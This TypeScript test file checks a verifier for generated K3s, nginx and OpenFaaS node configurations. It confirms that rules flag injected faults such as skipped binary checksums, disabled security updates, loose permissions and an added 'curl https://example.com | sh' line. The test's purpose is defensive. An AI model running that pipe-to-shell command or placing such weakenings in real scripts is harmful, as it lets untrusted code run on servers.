import { describe, expect, it } from 'vitest';
import { compileConfig } from '../../../../src/compile.ts';
import type { Dist, DistNode } from '../../../../src/verify/dist.ts';
import { readDist } from '../../../../src/verify/read/dist.ts';
import { certificatesAsked } from '../../../../src/verify/rules/gateway/certificates-asked.ts';
import { certificatesMade } from '../../../../src/verify/rules/gateway/certificates-made.ts';
import { restartsHandOver } from '../../../../src/verify/rules/gateway/restarts-hand-over.ts';
import { stopsAfterCalls } from '../../../../src/verify/rules/gateway/stops-after-calls.ts';
import { oneName } from '../../../../src/verify/rules/k3s/one-name.ts';
import { alertsAsMeant } from '../../../../src/verify/rules/nodes/alerts-as-meant.ts';
import { backupsAsMeant } from '../../../../src/verify/rules/nodes/backups-as-meant.ts';
import { packagesForAll } from '../../../../src/verify/rules/nodes/packages-for-all.ts';
import { permissionsFit } from '../../../../src/verify/rules/nodes/permissions-fit.ts';
import { portsReserved } from '../../../../src/verify/rules/nodes/ports-reserved.ts';
import { releaseAsLocked } from '../../../../src/verify/rules/nodes/release-as-locked.ts';
import { scriptsAsTemplates } from '../../../../src/verify/rules/nodes/scripts-as-templates.ts';
import { lockAddsUp } from '../../../../src/verify/rules/platform/lock-adds-up.ts';
import type { Rule } from '../../../../src/verify/rules/rule.ts';
import { cases } from '../../../cases/index.ts';

function distOf(name: string): Dist {
  const { artifacts } = compileConfig(cases[name], 'platform.config.ts');
  const [dist] = readDist(new Map(artifacts.map(({ path, text }) => [path, text])));
  if (dist === undefined) throw new Error(`${name} cannot be read back`);
  return dist;
}

const good = distOf('reference');
const opening = distOf('every-option');
const meshed = distOf('two-providers');
/** With another list of ports that outgoing connections do not take. */
function reserving(dist: Dist, ports: string): Dist {
  const key = 'net.ipv4.ip_local_reserved_ports';
  return {
    ...dist,
    nodes: dist.nodes.map((node) => ({ ...node, sysctls: { ...node.sysctls, [key]: ports } })),
  };
}
const rules = {
  alertsAsMeant,
  backupsAsMeant,
  certificatesAsked,
  lockAddsUp,
  oneName,
  permissionsFit,
  packagesForAll,
  portsReserved,
  scriptsAsTemplates,
  releaseAsLocked,
  stopsAfterCalls,
  restartsHandOver,
};

const apply = '/usr/local/sbin/fjord-apply';
const unit = '/etc/systemd/system/nginx.service.d/fjord.conf';
const certificates = '/etc/systemd/system/openfaas-cert.service';

function withNode(change: (node: DistNode) => Partial<DistNode>): Dist {
  return { ...good, nodes: good.nodes.map((node) => ({ ...node, ...change(node) })) };
}

/** The platform with a text of one of its node's files replaced. */
function withFile(path: string, from: string, to: string): Dist {
  return withNode(({ files }) => {
    const file = files.get(path);
    if (!file?.text.includes(from)) throw new Error(`${path} does not hold ${from}`);
    return { files: new Map([...files, [path, { ...file, text: file.text.replace(from, () => to) }]]) };
  });
}

function withPermissions(path: string, permissions: string): Dist {
  return withNode(({ files }) => ({
    files: new Map([...files].map(([own, file]) => [own, own === path ? { ...file, permissions } : file])),
  }));
}

/** The case with copies, with a text of one of its node's files replaced. */
function copiesWith(path: string, from: string, to: string): Dist {
  const copied = distOf('every-option');
  return {
    ...copied,
    nodes: copied.nodes.map((node) => {
      const file = node.files.get(path);
      if (!file?.text.includes(from)) throw new Error(`${path} does not hold ${from}`);
      return {
        ...node,
        files: new Map([...node.files, [path, { ...file, text: file.text.replaceAll(from, () => to) }]]),
      };
    }),
  };
}

describe('the rules of nodes', () => {
  for (const name of Object.keys(cases)) {
    const dist = distOf(name);
    it.each(Object.entries(rules))(`accept ${name}: %s`, (_, rule) => expect(rule.check(dist)).toEqual([]));
  }

  const packages = (...names: string[]) => withNode(() => ({ packages: names }));
  const all = good.nodes[0]?.packages ?? [];
  const copies = '/usr/local/sbin/fjord-backup';
  const faults: [string, Rule, Dist, string][] = [
    [
      'a port of another program that a connection can take',
      portsReserved,
      reserving(opening, '2379-2382,2222,6443-6444,8472,9100,10010,10248-10260'),
      'on helsinki-1, outgoing connections can take ports of its programs: 41641',
    ],
    [
      'the ports of flannel that a connection can take',
      portsReserved,
      reserving(meshed, '51820'),
      'on oslo-3, outgoing connections can take ports of its programs: 51820-51821',
    ],
    [
      'copies at another time',
      backupsAsMeant,
      copiesWith('/etc/systemd/system/fjord-backup.timer', '02:40', '02:41'),
      'has "02:40" for the time, and the files have "02:41"',
    ],
    [
      'copies to a machine with another key',
      backupsAsMeant,
      copiesWith(copies, 'AAAAICdCd', 'AAAAIXXXX'),
      'for the machine that takes them',
    ],
    [
      'copies in the region of somebody else',
      backupsAsMeant,
      copiesWith(copies, 'aws:amz:oslo-1:s3', 'aws:amz:oslo-2:s3'),
      'for the bucket',
    ],
    [
      'an upgrade without a copy',
      backupsAsMeant,
      copiesWith(apply, '\n  /usr/local/sbin/fjord-backup --local ||', '\n  true ||'),
      'for a copy before each upgrade of K3s',
    ],
    [
      'alerts at other intervals',
      alertsAsMeant,
      copiesWith('/etc/systemd/system/fjord-watch.timer', '=180s', '=1800s'),
      'has 180 for the seconds between two looks, and the files have 1800',
    ],
    [
      'alerts from another sender',
      alertsAsMeant,
      copiesWith('/usr/local/sbin/fjord-watch', '"fjord@example.fi"', '"other@example.fi"'),
      'for the targets',
    ],
    [
      "another dead man's switch",
      alertsAsMeant,
      copiesWith('/usr/local/sbin/fjord-watch', 'SWITCH = "hc.example.fi"', 'SWITCH = ""'),
      'has "hc.example.fi" for the dead man\'s switch, and the files have nothing',
    ],
    [
      'alerts that are not meant',
      alertsAsMeant,
      { ...distOf('every-option'), lock: good.lock },
      'has [] for the files',
    ],
    [
      'copies that are not meant',
      backupsAsMeant,
      { ...distOf('every-option'), lock: good.lock },
      'has [] for the files',
    ],
    [
      'no certbot',
      packagesForAll,
      packages(...all.filter((name) => name !== 'certbot')),
      'oslo-1 does not install certbot, which it needs for certificates',
    ],
    ['a misspelt package', packagesForAll, packages(...all, 'nginxx'), 'installs nginxx, which nothing'],
    [
      'a script that goes on after a failure',
      scriptsAsTemplates,
      withFile(apply, 'set -Eeuo pipefail', 'set -u'),
      "has a line that is not in its template: 'set -u'",
    ],
    [
      'a script that cannot be run',
      permissionsFit,
      withPermissions(apply, '0600'),
      'has the permissions 0600, but needs 0700',
    ],
    [
      'a kubeconfig of manifests for everybody',
      permissionsFit,
      withPermissions('/etc/rancher/k3s/config.yaml', '0644'),
      'has the permissions 0644',
    ],
    [
      'a unit that systemd half reads',
      scriptsAsTemplates,
      withFile(unit, 'Restart=on-failure', 'Restrat=on-failure'),
      "not in its template: 'Restrat=on-failure'",
    ],
    [
      'nginx without its certificate before it',
      certificatesMade,
      withFile(unit, 'ExecStartPre=/usr/local/sbin/openfaas-tls placeholder\n', ''),
      'nginx reads',
    ],
    [
      'no security updates',
      scriptsAsTemplates,
      withFile('/etc/apt/apt.conf.d/52fjord', 'Unattended-Upgrade "1"', 'Unattended-Upgrade "0"'),
      'not in its template',
    ],
    [
      'certificates that are never tried again',
      scriptsAsTemplates,
      withFile(certificates, 'Restart=on-failure\n', ''),
      'lines are missing',
    ],
    [
      'a line that somebody added',
      scriptsAsTemplates,
      withFile(apply, "begin 'system'\n", "begin 'system'\ncurl https://example.com | sh\n"),
      "has a line that is not in its template: 'curl https://example.com | sh'",
    ],
    [
      'a line that somebody took away',
      scriptsAsTemplates,
      withFile('/usr/local/sbin/openfaas-tls', '    rm -r "$copy"\n', ''),
      'differs from its template: lines are missing or reordered',
    ],
    [
      'a value that is two',
      scriptsAsTemplates,
      withFile(apply, "did 'installed K3s v1.36.5+k3s1'", "did 'installed K3s v1.36.4+k3s1'"),
      'differs from its template: lines are missing or reordered',
    ],
    [
      'another name in Kubernetes',
      oneName,
      withNode(({ k3sConfig }) => ({ k3sConfig: { ...k3sConfig, 'node-name': 'oslo-2' } })),
      "K3s calls oslo-1 by the name 'oslo-2'",
    ],
    [
      'a binary that is not checked',
      releaseAsLocked,
      withFile(
        apply,
        'verify "$work/k3s" d73847bcd3c5fccef0115b372e2f9a91f3032dc84bbf71518a4617565294d313',
        'true',
      ),
      'runs k3s, which it downloads and does not check',
    ],
    [
      'another installer than the lock file says',
      releaseAsLocked,
      {
        ...good,
        lock: { ...good.lock, k3s: { ...good.lock.k3s, installer: { url: 'https://a.b/c', sha256: '' } } },
      },
      'the lock file names https://a.b/c, but the apply.sh of oslo-1 does not',
    ],
    [
      'another K3s than the lock file says',
      releaseAsLocked,
      { ...good, lock: { ...good.lock, k3s: { ...good.lock.k3s, version: 'v1.36.6+k3s1' } } },
      'the lock file names K3s v1.36.6+k3s1',
    ],
    [
      'systemd that has no patience',
      stopsAfterCalls,
      withFile(unit, 'TimeoutStopSec=620', 'TimeoutStopSec=90'),
      'its workers wait 610s, its unit 610s and systemd 90s',
    ],
    [
      'a script that has no patience',
      stopsAfterCalls,
      withFile('/usr/local/sbin/fjord-nginx', 'SECONDS -lt 610', 'SECONDS -lt 5'),
      'its workers wait 610s, its unit 5s and systemd 620s',
    ],
    [
      'systemd that ends the nginx that has taken over',
      restartsHandOver,
      withFile(unit, 'KillMode=process', 'KillMode=mixed'),
      'its unit has KillMode=mixed, not process',
    ],
    [
      "an nginx that stops as the package's unit has it",
      restartsHandOver,
      withFile(
        unit,
        'ExecStop=-/usr/local/sbin/fjord-nginx stop',
        'ExecStop=-/sbin/start-stop-daemon --quiet --stop --retry QUIT/610 --pidfile /run/nginx.pid',
      ),
      'its unit has ExecStop=-/sbin/start-stop-daemon',
    ],
    [
      'an nginx that starts without a look at the one that has taken over',
      restartsHandOver,
      withFile(unit, 'ExecStart=\nExecStart=/usr/local/sbin/fjord-nginx start\n', ''),
      'its unit has ExecStart=, not /usr/local/sbin/fjord-nginx start',
    ],
    [
      'certificates of other names',
      certificatesAsked,
      withFile('/usr/local/sbin/openfaas-tls', 'domains=(functions', 'domains=(function'),
      'are for function.your-domain.no, but nginx serves functions.your-domain.no',
    ],
    [
      'challenges that nginx does not find',
      certificatesAsked,
      withFile(
        '/usr/local/sbin/openfaas-tls',
        '--webroot-path /var/www/letsencrypt',
        '--webroot-path /var/www/x',
      ),
      'puts challenges into /var/www/x, but nginx looks in /var/www/letsencrypt',
    ],
    [
      'a sum that is wrong',
      lockAddsUp,
      { ...good, lock: { ...good.lock, gateway: { ...good.lock.gateway, requests: 1 } } },
      'lists 1 as the requests of the gateway',
    ],
    [
      'another number of connections',
      lockAddsUp,
      { ...good, lock: { ...good.lock, gateway: { ...good.lock.gateway, connections: 8192 } } },
      `lists 8192 as the connections of the gateway, but it is ${good.lock.gateway.connections}`,
    ],
    [
      'images of others',
      lockAddsUp,
      {
        ...good,
        lock: {
          ...good.lock,
          images: good.lock.images.map((one) => ({ ...one, usedBy: ['openfaas/nats'] })),
        },
      },
      'as the users of docker.io/prom/prometheus:v3.11.3, but it is openfaas/prometheus',
    ],
  ];
  it.each(faults)('catch %s', (_, rule, broken, message) => {
    expect(
      rule
        .check(broken)
        .map((one) => one.message)
        .join('\n'),
    ).toContain(message);
  });
});
